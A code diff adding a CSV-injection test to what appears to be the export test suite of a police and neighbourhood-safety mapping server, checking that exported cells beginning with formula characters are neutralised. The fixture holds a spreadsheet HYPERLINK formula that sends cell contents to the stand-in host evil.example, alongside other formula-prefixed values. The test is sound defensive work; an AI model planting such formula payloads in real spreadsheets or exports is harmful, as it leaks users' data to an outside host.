@@ -2,6 +2,7 @@ import { DOMParser } from '@xmldom/xmldom';
 import iconv from 'iconv-lite';
 import type request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { csvCell } from '../server/export/spreadsheet-cells.js';
 import { LAYERS } from '../server/layers/registry.js';
 import { postImport } from './support/imports.js';
 import { binary } from './support/mvt.js';
@@ -29,6 +30,10 @@ beforeAll(async () => {
     name: '鐵皮工寮', address: '府前路 9 號', category: 'iron_sheet_house', listed_on: '2024-05-01', next_visit_due: '2026-06-30',
     indicators: { drug_lab: ['chemical_smell', 'covered_windows'] }, notes: SECRET,
   });
+  // Text a spreadsheet would run as formulas (OWASP "CSV Injection"): exported inert, imported back as written.
+  await post('key-places', pt(120.2066, 22.9936), {
+    name: FORMULA, address: '+886-6-2222222', category: 'vacant_house', notes: '@SUM(1+1)\t-2+3',
+  });
   await post('incidents', pt(120.2071, 22.9921), { type: 'fraud_withdrawal', occurred_at: '2025-11-03T21:15:00+08:00', source: 'cctv', description: SECRET });
   await post('watch-blocks', { type: 'Polygon', coordinates: [[[120.2011, 22.9911], [120.2034, 22.9911], [120.2034, 22.9933], [120.2011, 22.9933], [120.2011, 22.9911]]] },
     { name: '府前社區', adopter: '府前國小', adopter_kind: 'school', contact: SECRET, patrol_hours: '19:00-22:00' });
@@ -37,6 +42,7 @@ beforeAll(async () => {
 afterAll(async () => { await Promise.all([w?.close(), empty?.close()]); });
 
 const SECRET = '秘密聯絡人 0912-345-678';
+const FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"點此")';
 const raw = (t: request.Test) => t.buffer(true).parse(binary);
 const exported = (role: Parameters<World['as']>[0], query: string) => raw(w.as(role).get(`/api/export/${query}`));
 const text = (b: Buffer) => b.toString('utf8');
@@ -51,6 +57,21 @@ describe('formats', () => {
     const [header, first] = text(body.subarray(3)).split('\r\n');
     expect(header).toBe('id,名稱,方位角（度）,水平視角（度）,有效距離（公尺）,設置單位,狀態,車牌辨識,連網,可調整方向,建置年度,公開,聯絡人,警勤區,派出所,分局,經度,緯度');
     expect(first).toMatch(/^\d+,"府前路, ""東""口",135\.5,70,40,警察機關,正常,是,否,是,2016,是,秘密聯絡人 0912-345-678,B1,S1,P1,120\.2031234,22\.9941234$/);
+  });
+
+  it('CSV cells a spreadsheet would run as formulas are written inert: a quote before them, inside double quotes; numbers stay numbers', async () => {
+    for (const variant of ['format=csv', 'format=csv&header=name', 'format=csv&encoding=big5']) {
+      const res = await exported('admin', `key-places?${variant}`).expect(200);
+      const csv = variant.includes('big5') ? iconv.decode(res.body as Buffer, 'cp950') : text((res.body as Buffer).subarray(3));
+      const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
+      expect(line, variant).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
+      expect(line).toContain(`"'+886-6-2222222"`);
+      expect(line).toContain(`"'@SUM(1+1)\t-2+3"`);
+      // No cell of any row begins with a formula character outside that protection.
+      for (const row of csv.split('\r\n')) expect(row, variant).not.toMatch(/(^|,)[=+@\t\r]|(^|,)-[^\d]/);
+    }
+    // Numbers are not formulas, whatever their sign; text that only starts like one is.
+    expect([-3.5, '-3.5', '+12', '1e-3', '-1+1', '-', '@', '\r1', 'a=b'].map(csvCell)).toEqual(['-3.5', '-3.5', '+12', '1e-3', `"'-1+1"`, `"'-"`, `"'@"`, `"'\r1"`, 'a=b']);
   });
 
   it('CSV in Big5 with TWD97 columns that match Snyder\'s projection to a centimetre', async () => {
